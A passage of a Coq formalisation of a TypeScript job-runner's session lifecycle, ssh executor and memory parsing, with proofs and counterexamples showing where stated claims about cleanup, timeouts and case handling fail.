  eexists _, _. split; [reflexivity|].
  unfold destroyed. cbn [heap]. rewrite He.
  split; [apply lookup_insert_eq|]. split; reflexivity.
- destruct (destroySessionSafe_run m s st o Ho) as (st' & o' & E & H1 & H2 & _).
  exists st', o'. auto.
Qed.

End WithEnv.

End Lifecycle.

(** A concrete session, in a world where nothing fails and in one where
    every removal fails. *)
Module LifecycleExamples.
Import JS Lifecycle.

(** A world where nothing fails; the command prints "hi". *)
Definition quiet_env : Env :=
{| uuidv4 := fun _ => js "0f8fad5b";
   Date_now := fun n => (1700000000000 + Z.of_nat n)%Z;
   mkdir_error := fun _ => None;
   writeFile_error := fun _ => None;
   rm_result := fun _ => RmDone;
   readdir_error := fun _ => None;
   execSync := fun _ _ f => (ExecReturns (js "hi"), f);
   import_error := None |}.

(** The same world, except that every removal fails with EACCES and
    removes nothing. *)
Definition eacces_env : Env :=
{| uuidv4 := uuidv4 quiet_env;
   Date_now := Date_now quiet_env;
   mkdir_error := mkdir_error quiet_env;
   writeFile_error := writeFile_error quiet_env;
   rm_result := fun _ => RmThrows (js "Error: EACCES: permission denied, rmdir")
                           (fun _ => false);
   readdir_error := readdir_error quiet_env;
   execSync := execSync quiet_env;
   import_error := None |}.

(** The same world as [quiet_env], except that no file can be written. *)
Definition full_disk_env : Env :=
{| uuidv4 := uuidv4 quiet_env;
   Date_now := Date_now quiet_env;
   mkdir_error := mkdir_error quiet_env;
   writeFile_error := fun _ =>
     Some (js "Error: ENOSPC: no space left on device, write");
   rm_result := rm_result quiet_env;
   readdir_error := readdir_error quiet_env;
   execSync := execSync quiet_env;
   import_error := None |}.

Definition empty_state : State :=
{| active_sessions := ∅; heap := ∅; next_loc := 0; files := ∅;
   uuids_drawn := 0; clock_reads := 0; trace := [] |}.

Definition no_options : SessionOptions :=
{| opt_base_dir := None; work_dir_name := None; output_dir_name := None |}.

Definition demo_manager : Manager :=
{| base_dir := DEFAULT_BASE_DIR;
   sessions_dir := path_join DEFAULT_BASE_DIR DEFAULT_SESSIONS_DIR;
   callbacks := {| onStateChange := None |} |}.

Definition demo_session_dir : path :=
[js "opt"; js "opencode"; js "sessions"; js "session-0f8fad5b"].

(** The session object [createSession("job-1")] makes in these worlds. *)
Definition demo_session : SessionContext :=
{| session_id := js "0f8fad5b"; job_id := js "job-1"; state := PREPARING;
   work_dir := demo_session_dir ++ [js "work"];
   output_dir := demo_session_dir ++ [js "output"];
   config_path := demo_session_dir ++ [js "opencode.json"];
   created_at := 1700000000000%Z; started_at := None; finished_at := None;
   error := None |}.

(** The state after [initialize()] and [createSession("job-1")]. *)
Definition demo_state : State :=
snd ((initialize quiet_env demo_manager >>
      createSession quiet_env demo_manager (js "job-1") no_options) empty_state).

Example demo_state_session :
  heap demo_state !! 0 = Some demo_session /\
  active_sessions demo_state !! js "0f8fad5b" = Some 0 /\
  files demo_state !! work_dir demo_session = Some Dir /\
  files demo_state !! output_dir demo_session = Some Dir.
Proof. vm_compute. repeat split; reflexivity. Qed.

Definition demo_job : WorkerJobInput :=
{| in_job_id := js "job-1"; command := js "echo hi";
   in_files := [(js "task.json", js "{}")] |}.

Example runSessionLifecycle_quiet :
  let r := runSessionLifecycle quiet_env demo_job no_options empty_state in
  fst r = Ok {| res_session := 0; res_stdout := js "hi"; res_stderr := [];
                res_exit_code := 0; res_duration_ms := 2 |} /\
  trace (snd r) =
    [CallCreate (js "job-1"); CallPrepare 0; CallExecute 0; CallCollect 0;
     CallDestroySafe 0; CallDestroy 0] /\
  files (snd r) !! demo_session_dir = None /\
  active_sessions (snd r) = ∅.
Proof. vm_compute. repeat split; reflexivity. Qed.

(** C3, as stated, fails where a removal fails: [destroySession] returns
    and the session is DESTROYED, but it is still in the registry and its
    directories still exist; and a second [destroySession] on the session,
    now DESTROYED, returns at once and leaves them so. *)
Lemma destroySession_failed_deletion_counterexample :
  let r := destroySession eacces_env demo_manager 0 demo_state in
  let r' := destroySession quiet_env demo_manager 0 (snd r) in
  fst r = Ok tt /\
  state <$> heap (snd r) !! 0 = Some DESTROYED /\
  active_sessions (snd r) !! session_id demo_session = Some 0 /\
  files (snd r) !! work_dir demo_session = Some Dir /\
  files (snd r) !! output_dir demo_session = Some Dir /\
  (* destroying again, in a world where removals succeed, changes nothing *)
  fst r' = Ok tt /\
  active_sessions (snd r') !! session_id demo_session = Some 0 /\
  files (snd r') !! work_dir demo_session = Some Dir /\
  files (snd r') !! output_dir demo_session = Some Dir.
Proof. vm_compute. repeat split; reflexivity. Qed.

(** C5, as stated, fails when [prepareSession] throws: the job's file
    cannot be written, [destroySessionSafe] is entered on the session and
    the error is passed on, but no artifact collection has taken place
    before it, nor at all. *)
Lemma runSessionLifecycle_skips_collection_counterexample :
  let run := runSessionLifecycle full_disk_env demo_job no_options empty_state in
  fst run = Throw (js "Error: ENOSPC: no space left on device, write") /\
  trace (snd run) =
    [CallCreate (js "job-1"); CallPrepare 0; CallDestroySafe 0; CallDestroy 0] /\
  ~ In (CallCollect 0) (trace (snd run)).
Proof.
vm_compute. split; [reflexivity|]. split; [reflexivity|].
intros [H|[H|[H|[H|[]]]]]; discriminate.
Qed.

Lemma destroySession_removes_session_witness :
  let st' := snd (destroySession quiet_env demo_manager 0 demo_state) in
  (exists o', heap st' !! 0 = Some o' /\ state o' = DESTROYED) /\
  active_sessions st' !! session_id demo_session = None /\
  files st' !! work_dir demo_session = None /\
  files st' !! output_dir demo_session = None /\
  files st' !! path_dirname (work_dir demo_session) = None.
Proof.
apply (destroySession_removes_session quiet_env demo_manager 0 demo_state _
         demo_session).
- vm_compute. reflexivity.
- discriminate.
- repeat split.
- vm_compute. reflexivity.
Defined.

Lemma destroySession_always_DESTROYED_witness :
  exists st' o',
    destroySession eacces_env demo_manager 0 demo_state = (Ok tt, st') /\
    heap st' !! 0 = Some o' /\ state o' = DESTROYED /\
    error o' = Some (js "Error: EACCES: permission denied, rmdir").
Proof.
assert (H : heap demo_state !! 0 = Some demo_session)
  by (vm_compute; reflexivity).
apply (proj1 (proj2 (destroySession_always_DESTROYED eacces_env demo_manager 0
                       demo_state demo_session H))).
- discriminate.
- reflexivity.
- reflexivity.
Defined.

End LifecycleExamples.

(* ===================================================================== *)
(** ** scripts/ssh-executor.ts *)
(* ===================================================================== *)

Module SshExecutor.
Import JS Regex.

(** *** parseMemory *)

(** [/^(\d+)(GB|MB|KB)?$/i]: the text between the anchors.  With the i flag
    an ASCII letter of the pattern matches both of its cases. *)
Definition letter_i (c : N) : re := RAlt (RCls (CChar c)) (RCls (CChar (c + 32))).

Definition unit_i (a b : N) : re := RCat (letter_i a) (letter_i b).

Definition memory_re : re :=
RCat (RPlus (RCls CDigit))
     (ROpt (RAlt (unit_i 71 66) (RAlt (unit_i 77 66) (unit_i 75 66)))).

(** A match of the whole subject (both anchors, no m flag). *)
Definition full_match (r : re) (s : jsstring) : bool :=
nullable (fold_left (fun r c => deriv c r) s r).

(** The longest run of digits at the head of [s], and the rest. *)
Fixpoint span_digits (s : jsstring) : jsstring * jsstring :=
match s with
| c :: s' =>
    if is_digit c
    then let '(ds, rest) := span_digits s' in (c :: ds, rest)
    else ([], s)
| [] => ([], [])
end.

(** [parseInt(digits, 10)] on a run of decimal digits. *)
Definition parseInt (ds : jsstring) : Z :=
fold_left (fun acc c => (10 * acc + (Z.of_N c - 48))%Z) ds 0%Z.

(** [Math.ceil(value / 1024)] on a non-negative integer. *)
Definition ceil_div_1024 (value : Z) : Z := ((value + 1023) / 1024)%Z.

(** Numbers are integers here: the model is that of the code as long as
    [parseInt] is exact, that is up to [MAX_SAFE_INTEGER]. *)
Definition MAX_SAFE_INTEGER : Z := (2 ^ 53 - 1)%Z.

(** When the pattern matches, group 1 is the longest run of digits (the
    unit cannot begin with a digit) and group 2 is what follows it. *)
Definition parseMemory (memStr : jsstring) : Z :=
if negb (full_match memory_re memStr) then 2048%Z
else
  let '(digits, suffix) := span_digits memStr in
  let value := parseInt digits in
  let unit := toUpperCase (match suffix with [] => js "MB" | _ => suffix end) in
  if jseqb unit (js "GB") then (value * 1024)%Z
  else if jseqb unit (js "KB") then ceil_div_1024 value
  else value.

(** A non-empty run of decimal digits. *)
Definition digits (ds : jsstring) : Prop :=
ds <> [] /\ forallb is_digit ds = true.

(** The format the pattern accepts: digits, then nothing or GB, MB or KB
    in any mix of cases. *)
Definition memory_form (s : jsstring) : Prop :=
exists ds u, s = ds ++ u /\ digits ds /\
  (u = [] \/ toUpperCase u = js "GB" \/ toUpperCase u = js "MB" \/
   toUpperCase u = js "KB").

(** The format as the claim words it: the suffix is GB, MB or KB as
    written. *)
Definition claimed_form (s : jsstring) : Prop :=
exists ds u, s = ds ++ u /\ digits ds /\
  (u = [] \/ u = js "GB" \/ u = js "MB" \/ u = js "KB").

(** *** runJob *)

(** The JobResult status, ["finished" | "failed" | "timeout"]. *)
Inductive status : Type := finished | failed | timeout.

Record JobLimits : Type := {
  limit_cpu : Z;
  limit_memory : jsstring;
  limit_timeout : Z
}.

Record JobInput : Type := {
  job_id : jsstring;
  command : jsstring;
  files : list (jsstring * jsstring);
  limits : JobLimits
}.

Record JobResult : Type := {
  res_job_id : jsstring;
  res_status : status;
  exit_code : Z;
  stdout : jsstring;
  stderr : jsstring;
  artifacts : list jsstring;
  duration_ms : Z;
  worker_id : jsstring
}.

(** What a command line sent over ssh asks for (its shell text is not
    modelled). *)
Inductive ssh_command : Type :=
| MkdirSession (job : jsstring)
| WriteFile (job filename content : jsstring)
| RunCommand (job : jsstring) (cgroupMemory cpu_seconds : Z) (cmd : jsstring)
| ListOutput (job : jsstring)
| RemoveSession (job : jsstring).

(** What a spawned ssh process does when left alone: it closes after some
    time with an exit code (null when a signal ended it), fails to spawn,
    or never closes. *)
Inductive process : Type :=
| Closes (after_ms : Z) (code : option Z) (out err : jsstring)
| Errors (message : jsstring)
| Hangs.

(** The world of a run: what the n-th spawned process does, and the clock. *)
Record World : Type := {
  spawn : nat -> ssh_command -> process;
  Date_now : nat -> Z
}.

(** How a promise ends. *)
Inductive settled (A : Type) : Type :=
| Resolved (a : A)
| Rejected (error : jsstring)      (* String(error) *)
| Pending.                         (* never settles *)
Arguments Resolved {A} a.
Arguments Rejected {A} error.
Arguments Pending {A}.

Record SshOutput : Type := {
  out_stdout : jsstring;
  out_stderr : jsstring;
  exitCode : Z
}.

Definition timed_out_message (t : Z) : jsstring :=
js "Error: Command timed out after " ++ show_Z t ++ js "ms".

(** [sshExec(command, { timeout })] on a process [p].  With a truthy
    timeout a timer kills the process with SIGKILL and rejects, unless the
    process has closed by then. *)
Definition sshExec (p : process) (timeout_opt : option Z) : settled SshOutput :=
let timer :=
  match timeout_opt with
  | Some t => if (t =? 0)%Z then None else Some t
  | None => None
  end in
match p with
| Errors message => Rejected message
| Closes after code out err =>
    let resolved :=
      Resolved {| out_stdout := out; out_stderr := err;
                  exitCode := match code with Some c => c | None => (-1)%Z end |} in
    match timer with
    | Some t => if (t <? after)%Z then Rejected (timed_out_message t) else resolved
    | None => resolved
    end
| Hangs =>
    match timer with
    | Some t => Rejected (timed_out_message t)
    | None => Pending
    end
end.

(** Awaited calls in sequence: the state is the number of processes
    spawned so far. *)
Definition E (A : Type) : Type := nat -> settled A * nat.

Definition eret {A} (a : A) : E A := fun n => (Resolved a, n).

Definition ebind {A B} (m : E A) (k : A -> E B) : E B :=
fun n =>
  match m n with
  | (Resolved a, n1) => k a n1
  | (Rejected e, n1) => (Rejected e, n1)
  | (Pending, n1) => (Pending, n1)
  end.

Definition await_ssh (w : World) (c : ssh_command) (timeout_opt : option Z)
  : E SshOutput :=
fun n => (sshExec (spawn w n c) timeout_opt, S n).

Fixpoint write_files (w : World) (job : jsstring)
  (fs : list (jsstring * jsstring)) : E unit :=
match fs with
| [] => eret tt
| (filename, content) :: rest =>
    ebind (await_ssh w (WriteFile job filename content) None)
          (fun _ => write_files w job rest)
end.

(** [Math.ceil(x * 1.2)] and [Math.ceil(x / 1000)], in exact arithmetic. *)
Definition ceil_times_1_2 (x : Z) : Z := ((x * 6 + 4) / 5)%Z.
Definition ceil_div_1000 (x : Z) : Z := ((x + 999) / 1000)%Z.

(** The try block of [runJob]. *)
Definition run_try (w : World) (wid : jsstring) (input : JobInput)
  : E JobResult :=
let job := job_id input in
ebind (await_ssh w (MkdirSession job) None) (fun _ =>
ebind (write_files w job (files input)) (fun _ =>
let memoryLimit := parseMemory (limit_memory (limits input)) in
let cgroupMemory := ceil_times_1_2 memoryLimit in
ebind (await_ssh w
         (RunCommand job cgroupMemory
            (ceil_div_1000 (limit_timeout (limits input))) (command input))
         (Some (limit_timeout (limits input) + 5000)%Z)) (fun result =>
let duration := (Date_now w 1 - Date_now w 0)%Z in
ebind (await_ssh w (ListOutput job) None) (fun artifactsResult =>
ebind (await_ssh w (RemoveSession job) None) (fun _ =>
let st := if (exitCode result =? 0)%Z then finished else failed in
eret {| res_job_id := job; res_status := st;
        exit_code := exitCode result;
        stdout := out_stdout result; stderr := out_stderr result;
        artifacts := [];
        duration_ms := duration; worker_id := wid |}))))).

(** [runJob(input)]; [None] when an awaited promise never settles. *)
Definition runJob (w : World) (wid : jsstring) (input : JobInput)
  : option JobResult :=
match run_try w wid input 0 with
| (Resolved r, _) => Some r
| (Pending, _) => None
| (Rejected error, n) =>
    let duration := (Date_now w 1 - Date_now w 0)%Z in
    (* Cleanup on failure; its rejection is swallowed *)
    match sshExec (spawn w n (RemoveSession (job_id input))) None with
    | Pending => None
    | _ =>
        Some {| res_job_id := job_id input; res_status := failed;
                exit_code := (-1)%Z; stdout := []; stderr := error;
                artifacts := []; duration_ms := duration; worker_id := wid |}
    end
end.

(** *** The classification of test-remote.ts (RemoteWorkerExecutor.runJob) *)

Definition classify_status (code : Z) (signal : option jsstring) : status :=
let st := finished in
let st := if negb (code =? 0)%Z then failed else st in
match signal with
| Some sg => if jseqb sg (js "SIGTERM") || jseqb sg (js "SIGKILL") then timeout else st
| None => st
end.

(** The job of the spec: "sleep 10" with a timeout of 500 ms. *)
Definition sleep_job : JobInput :=
{| job_id := js "job-1"; command := js "sleep 10"; files := [];
   limits := {| limit_cpu := 1; limit_memory := js "512MB";
                limit_timeout := 500 |} |}.

(** Every remote command closes with code 0: the job's after 10 s, the
    others after 20 ms. *)
Definition sleep_world : World :=
{| spawn := fun _ c =>
     match c with
     | RunCommand _ _ _ _ => Closes 10000 (Some 0%Z) [] []
     | _ => Closes 20 (Some 0%Z) [] []
     end;
   Date_now := fun n => (1700000000000 + 5520 * Z.of_nat n)%Z |}.

(** *** Claims about [parseMemory] *)

Example parseMemory_512MB : parseMemory (js "512MB") = 512%Z.
Proof. vm_compute. reflexivity. Qed.

Example parseMemory_2GB : parseMemory (js "2GB") = 2048%Z.
Proof. vm_compute. reflexivity. Qed.

Example parseMemory_1500KB : parseMemory (js "1500KB") = 2%Z.
Proof. vm_compute. reflexivity. Qed.

Example parseMemory_bare : parseMemory (js "300") = 300%Z.
Proof. vm_compute. reflexivity. Qed.

Example parseMemory_junk :
  parseMemory (js "lots") = 2048%Z /\ parseMemory (js "1.5GB") = 2048%Z /\
  parseMemory (js "4 GB") = 2048%Z /\ parseMemory (js "GB") = 2048%Z /\
  parseMemory [] = 2048%Z.
Proof. vm_compute. repeat split; reflexivity. Qed.

Lemma full_match_spec r s : full_match r s = true <-> matches r s.
Proof.
unfold full_match. revert r. induction s as [|c s IH]; intros r; cbn [fold_left].
- apply nullable_spec.
- rewrite IH. apply deriv_spec.
Qed.

Lemma matches_star_digits l :
  forallb is_digit l = true -> matches (RStar (RCls CDigit)) l.
Proof.
induction l as [|c l IH]; intros H; [constructor|].
cbn [forallb] in H. apply andb_true_iff in H as [Hc Hl].
change (c :: l) with ([c] ++ l). constructor; [constructor; exact Hc | auto].
Qed.

Lemma matches_plus_digits ds : digits ds -> matches (RPlus (RCls CDigit)) ds.
Proof.
intros [Hne H]. destruct ds as [|c l]; [congruence|].
cbn [forallb] in H. apply andb_true_iff in H as [Hc Hl].
change (c :: l) with ([c] ++ l). unfold RPlus.
constructor; [constructor; exact Hc | apply matches_star_digits; assumption].
Qed.

Lemma matches_star_digits_inv l :
  matches (RStar (RCls CDigit)) l -> forallb is_digit l = true.
Proof.
intros M. remember (RStar (RCls CDigit)) as r eqn:Er.
induction M; try discriminate; [reflexivity|].
injection Er as ->. apply matches_cls_inv in M1 as (c & -> & Hc).
cbn [app forallb]. cbn in Hc. rewrite Hc. apply IHM2. reflexivity.
Qed.

Lemma matches_plus_digits_inv ds : matches (RPlus (RCls CDigit)) ds -> digits ds.
Proof.
intros M. apply matches_cat_inv in M as (w1 & w2 & -> & M1 & M2).
apply matches_cls_inv in M1 as (c & -> & Hc). cbn in Hc.
apply matches_star_digits_inv in M2.
split; [discriminate|]. cbn [app forallb]. rewrite Hc. assumption.
Qed.

Lemma upper_inv (x c : N) :
  (65 <= x <= 90)%N -> upper c = x -> c = x \/ c = (x + 32)%N.
Proof.
intros Hx. unfold upper.
destruct ((97 <=? c)%N && (c <=? 122)%N) eqn:E.
- apply andb_true_iff in E as [E1 E2]. apply N.leb_le in E1, E2. lia.
- auto.
Qed.

Lemma matches_letter_i x c :
  (65 <= x <= 90)%N -> upper c = x -> matches (letter_i x) [c].
Proof.
intros Hx Hu. destruct (upper_inv x c Hx Hu) as [-> | ->].
- apply MAltL. constructor. apply N.eqb_refl.
- apply MAltR. constructor. apply N.eqb_refl.
Qed.

Lemma matches_letter_i_inv x w :
  (65 <= x <= 90)%N -> matches (letter_i x) w -> exists c, w = [c] /\ upper c = x.
Proof.
intros Hx M.
apply matches_alt_inv in M as [M|M];
  apply matches_cls_inv in M as (c & -> & Hc); cbn in Hc;
  apply N.eqb_eq in Hc; subst c; eexists; (split; [reflexivity|]); unfold upper.
- replace ((97 <=? x)%N) with false by (symmetry; apply N.leb_gt; lia).
  reflexivity.
- replace ((97 <=? x + 32)%N) with true by (symmetry; apply N.leb_le; lia).
  replace ((x + 32 <=? 122)%N) with true by (symmetry; apply N.leb_le; lia).
  cbn [andb]. lia.
Qed.

Lemma matches_unit_i a b u :
  (65 <= a <= 90)%N -> (65 <= b <= 90)%N ->
  toUpperCase u = [a; b] <-> matches (unit_i a b) u.
Proof.
intros Ha Hb. split.
- intros H. destruct u as [|x [|y [|z u]]]; try discriminate.
  injection H as Hx Hy. change [x; y] with ([x] ++ [y]).
  constructor; apply matches_letter_i; assumption.
- intros M. apply matches_cat_inv in M as (w1 & w2 & -> & M1 & M2).
  apply matches_letter_i_inv in M1 as (x & -> & Hx); [|assumption].
  apply matches_letter_i_inv in M2 as (y & -> & Hy); [|assumption].
  cbn. congruence.
Qed.

Lemma memory_form_matches s : memory_form s <-> matches memory_re s.
Proof.
unfold memory_form, memory_re, ROpt. split.
- intros (ds & u & -> & Hd & Hu).
  constructor; [apply matches_plus_digits; assumption|].
  destruct Hu as [-> | [Hu | [Hu | Hu]]].
  + apply MAltR. constructor.
  + apply MAltL, MAltL. apply matches_unit_i; [lia | lia | exact Hu].
  + apply MAltL, MAltR, MAltL. apply matches_unit_i; [lia | lia | exact Hu].
  + apply MAltL, MAltR, MAltR. apply matches_unit_i; [lia | lia | exact Hu].
- intros M. apply matches_cat_inv in M as (ds & u & -> & M1 & M2).
  exists ds, u. split; [reflexivity|].
  split; [apply matches_plus_digits_inv; assumption|].
  apply matches_alt_inv in M2 as [M2|M2].
  + right.
    apply matches_alt_inv in M2 as [M2|M2];
      [|apply matches_alt_inv in M2 as [M2|M2]];
      apply matches_unit_i in M2; try lia; auto.
  + left. inversion M2. reflexivity.
Qed.

Lemma span_digits_app ds u :
  forallb is_digit ds = true ->
  match u with [] => True | c :: _ => is_digit c = false end ->
  span_digits (ds ++ u) = (ds, u).
Proof.
intros Hd Hu. induction ds as [|c ds IH]; cbn [app span_digits].
- destruct u as [|x u]; [reflexivity|]. cbn [span_digits]. rewrite Hu. reflexivity.
- cbn [forallb] in Hd. apply andb_true_iff in Hd as [Hc Hd].
  rewrite Hc, (IH Hd). reflexivity.
Qed.

Lemma unit_head_not_digit u x :
  toUpperCase u = x -> forallb (fun c => (65 <=? c)%N) x = true ->
  match u with [] => True | c :: _ => is_digit c = false end.
Proof.
intros <- H. destruct u as [|c u]; [exact I|].
cbn [toUpperCase List.map forallb] in H. apply andb_true_iff in H as [H _].
apply N.leb_le in H. unfold is_digit. apply andb_false_iff.
unfold upper in H.
destruct ((97 <=? c)%N && (c <=? 122)%N) eqn:E.
- apply andb_true_iff in E as [E1 E2]. apply N.leb_le in E1.
  right. apply N.leb_gt. lia.
- right. apply N.leb_gt. lia.
Qed.

(** However the pattern matches, its two groups are the longest run of
    digits and the rest. *)
Lemma memory_groups ds u :
  matches (RPlus (RCls CDigit)) ds ->
  matches (ROpt (RAlt (unit_i 71 66) (RAlt (unit_i 77 66) (unit_i 75 66)))) u ->
  span_digits (ds ++ u) = (ds, u).
Proof.
intros Md Mu. apply matches_plus_digits_inv in Md as [_ Hd].
apply span_digits_app; [assumption|].
apply matches_alt_inv in Mu as [Mu|Mu]; [|inversion Mu; exact I].
apply matches_alt_inv in Mu as [Mu|Mu];
  [|apply matches_alt_inv in Mu as [Mu|Mu]];
  apply matches_unit_i in Mu; try lia;
  eapply unit_head_not_digit; try exact Mu; reflexivity.
Qed.

(** [parseMemory] on a string of the accepted format. *)
Lemma parseMemory_form ds u :
  digits ds ->
  (u = [] \/ toUpperCase u = js "GB" \/ toUpperCase u = js "MB" \/
   toUpperCase u = js "KB") ->
  parseMemory (ds ++ u) =
  let unit := toUpperCase (match u with [] => js "MB" | _ => u end) in
  if jseqb unit (js "GB") then (parseInt ds * 1024)%Z
  else if jseqb unit (js "KB") then ceil_div_1024 (parseInt ds)
  else parseInt ds.
Proof.
intros Hd Hu. unfold parseMemory.
assert (Hm : full_match memory_re (ds ++ u) = true).
{ apply full_match_spec, memory_form_matches. exists ds, u. auto. }
rewrite Hm. cbn [negb].
rewrite span_digits_app; [reflexivity | apply Hd |].
destruct Hu as [-> | [Hu | [Hu | Hu]]]; [exact I | | |];
  eapply unit_head_not_digit; try exact Hu; reflexivity.
Qed.

Lemma parseInt_nonneg_from ds acc :
  forallb is_digit ds = true -> (0 <= acc)%Z ->
  (0 <= fold_left (fun acc c => 10 * acc + (Z.of_N c - 48)) ds acc)%Z.
Proof.
revert acc. induction ds as [|c ds IH]; intros acc H Ha; cbn [fold_left]; [assumption|].
cbn [forallb] in H. apply andb_true_iff in H as [Hc Hd].
apply IH; [assumption|]. unfold is_digit in Hc.
apply andb_true_iff in Hc as [H1 H2]. apply N.leb_le in H1, H2. lia.
Qed.

(** C8, amended. A string of digits of value [n] (within the integers
    JavaScript numbers represent exactly) followed by GB gives [n * 1024],
    followed by MB or by nothing gives [n], followed by KB gives the least
    [r] with [n <= r * 1024]; the suffix counts in any mix of upper and
    lower case.  Every other string gives 2048. *)
Theorem parseMemory_by_format :
  (forall ds u n,
     digits ds -> parseInt ds = n -> (n <= MAX_SAFE_INTEGER)%Z ->
     (toUpperCase u = js "GB" -> parseMemory (ds ++ u) = (n * 1024)%Z) /\
     (u = [] \/ toUpperCase u = js "MB" -> parseMemory (ds ++ u) = n) /\
     (toUpperCase u = js "KB" ->
        ((parseMemory (ds ++ u) - 1) * 1024 < n <= parseMemory (ds ++ u) * 1024)%Z))
  /\
  (forall s, ~ memory_form s -> parseMemory s = 2048%Z).
Proof.
split.
- intros ds u n Hd Hn _. subst n. split; [|split].
  + intros Hu. rewrite parseMemory_form by auto.
    destruct u; [discriminate|]. cbv zeta. rewrite Hu. reflexivity.
  + intros [-> | Hu].
    * rewrite parseMemory_form by auto. reflexivity.
    * rewrite parseMemory_form by auto.
      destruct u; [discriminate|]. cbv zeta. rewrite Hu. reflexivity.
  + intros Hu. rewrite parseMemory_form by auto.
    destruct u; [discriminate|]. cbv zeta. rewrite Hu.
    change (if jseqb (js "KB") (js "GB") then _ else _)
      with (ceil_div_1024 (parseInt ds)).
    pose proof (parseInt_nonneg_from ds 0 (proj2 Hd) (Z.le_refl 0)) as H0.
    fold (parseInt ds) in H0. unfold ceil_div_1024.
    pose proof (Z.div_mod (parseInt ds + 1023) 1024 ltac:(lia)) as E.
    pose proof (Z.mod_pos_bound (parseInt ds + 1023) 1024 ltac:(lia)) as B.
    lia.
- intros s Hs. unfold parseMemory.
  destruct (full_match memory_re s) eqn:E; [|reflexivity].
  exfalso. apply Hs, memory_form_matches, full_match_spec. assumption.
Qed.

Lemma parseMemory_by_format_witness :
  parseMemory (js "8gb") = 8192%Z /\ parseMemory (js "512") = 512%Z /\
  parseMemory (js "0512Mb") = 512%Z /\
  ((parseMemory (js "1025kB") - 1) * 1024 < 1025 <= parseMemory (js "1025kB") * 1024)%Z.
Proof.
assert (D1 : digits (js "8")) by (split; [discriminate | reflexivity]).
assert (D2 : digits (js "512")) by (split; [discriminate | reflexivity]).
assert (D3 : digits (js "0512")) by (split; [discriminate | reflexivity]).
assert (D4 : digits (js "1025")) by (split; [discriminate | reflexivity]).
assert (B1 : (8 <= MAX_SAFE_INTEGER)%Z) by (unfold MAX_SAFE_INTEGER; lia).
assert (B2 : (512 <= MAX_SAFE_INTEGER)%Z) by (unfold MAX_SAFE_INTEGER; lia).
assert (B4 : (1025 <= MAX_SAFE_INTEGER)%Z) by (unfold MAX_SAFE_INTEGER; lia).
split; [|split; [|split]].
- apply (proj1 (proj1 parseMemory_by_format (js "8") (js "gb") 8%Z D1 eq_refl B1)).
  reflexivity.
- apply (proj1 (proj2 (proj1 parseMemory_by_format (js "512") [] 512%Z D2
                         eq_refl B2))).
  left. reflexivity.
- apply (proj1 (proj2 (proj1 parseMemory_by_format (js "0512") (js "Mb") 512%Z D3
                         eq_refl B2))).
  right. reflexivity.
- apply (proj2 (proj2 (proj1 parseMemory_by_format (js "1025") (js "kB") 1025%Z D4
                         eq_refl B4))).
  reflexivity.
Defined.

(** C8, as stated, fails on a lower-case suffix: "3gb" is not of the form
    digits plus GB, MB or KB, and it is not mapped to 2048. *)
Lemma parseMemory_lowercase_counterexample :
  ~ claimed_form (js "3gb") /\ parseMemory (js "3gb") = 3072%Z.
Proof.
split; [|vm_compute; reflexivity].
intros (ds & u & E & [_ Hd] & Hu).
assert (T : forall a b, js "3gb" = (ds ++ [a]) ++ [b] -> b = 98%N).
{ intros a b H. change (js "3gb") with ([51; 103] ++ [98])%N in H.
  apply app_inj_tail in H as [_ H]. congruence. }
destruct Hu as [-> | [-> | [-> | ->]]].
- rewrite app_nil_r in E. subst ds. vm_compute in Hd. discriminate.
- specialize (T 71%N 66%N). rewrite <- app_assoc in T.
  specialize (T E). discriminate.
- specialize (T 77%N 66%N). rewrite <- app_assoc in T.
  specialize (T E). discriminate.
- specialize (T 75%N 66%N). rewrite <- app_assoc in T.
  specialize (T E). discriminate.
Qed.

(** *** Claims about [runJob] *)

Lemma run_try_status w wid input n r n' :
  run_try w wid input n = (Resolved r, n') ->
  res_status r = (if (exit_code r =? 0)%Z then finished else failed).
Proof.
unfold run_try, ebind.
destruct (await_ssh w (MkdirSession (job_id input)) None n) as [[?| |] n1];
  try discriminate.
destruct (write_files w (job_id input) (files input) n1) as [[?| |] n2];
  try discriminate.
destruct (await_ssh w (RunCommand _ _ _ _) _ n2) as [[result| |] n3];
  try discriminate.
destruct (await_ssh w (ListOutput _) None n3) as [[?| |] n4]; try discriminate.
destruct (await_ssh w (RemoveSession _) None n4) as [[?| |] n5]; try discriminate.
unfold eret. intros H. injection H as <- _. reflexivity.
Qed.

(** What [runJob] returns: "finished" exactly when the exit code is 0,
    "failed" otherwise, and never "timeout". *)
Lemma runJob_status w wid input r :
  runJob w wid input = Some r ->
  (res_status r = finished <-> exit_code r = 0%Z) /\
  (exit_code r <> 0%Z -> res_status r = failed) /\
  res_status r <> timeout.
Proof.
unfold runJob.
destruct (run_try w wid input 0) as [[r0|e|] n] eqn:E; [| |discriminate].
- intros H. injection H as <-. apply run_try_status in E. rewrite E.
  destruct (exit_code r0 =? 0)%Z eqn:Z0.
  + apply Z.eqb_eq in Z0. repeat split; congruence.
  + apply Z.eqb_neq in Z0. repeat split; congruence.
- destruct (sshExec _ None); [| |discriminate];
    intros H; injection H as <-; cbn; repeat split; congruence.
Qed.

(** C1 at the job of the spec: the executor's own timer kills the command
    after 5500 ms, and the job is reported "failed" with exit code -1, not
    "timeout". *)
Theorem runJob_forced_kill_is_failed :
  runJob sleep_world (js "docker-worker-1") sleep_job =
  Some {| res_job_id := js "job-1"; res_status := failed;
          exit_code := (-1)%Z; stdout := [];
          stderr := js "Error: Command timed out after 5500ms";
          artifacts := []; duration_ms := 5520;
          worker_id := js "docker-worker-1" |}.
Proof. vm_compute. reflexivity. Qed.

(** The sibling executor reports a process ended by SIGKILL as "timeout". *)
Example classify_status_sigkill :
  classify_status (-1) (Some (js "SIGKILL")) = timeout /\
  classify_status 42 None = failed /\ classify_status 0 None = finished.
Proof. vm_compute. repeat split; reflexivity. Qed.

End SshExecutor.

(* ===================================================================== *)
(** ** More about src/security/allowlist.ts *)
(* ===================================================================== *)

Module AllowlistFacts.
Import JS Regex Allowlist.

(** The tokens [validateCommand] and [sanitizeCommand] work on. *)
Definition tokens (command : jsstring) : list jsstring := split_ws (trim command).

(** A non-empty piece without white space. *)
Definition solid (t : jsstring) : bool :=
negb (bool_decide (t = [])) && forallb (fun c => negb (is_ws c)) t.

(** The last code unit of a non-empty string is not white space. *)
Fixpoint ends_solid (u : jsstring) : bool :=
match u with
| [] => false
| [c] => negb (is_ws c)
| _ :: u' => ends_solid u'
end.

(** The result for an empty command. *)
Definition empty_result : CommandValidationResult :=
{| allowed := false; reason := Some (js "Empty command");
   sanitized_command := None |}.

(** *** Trimming *)

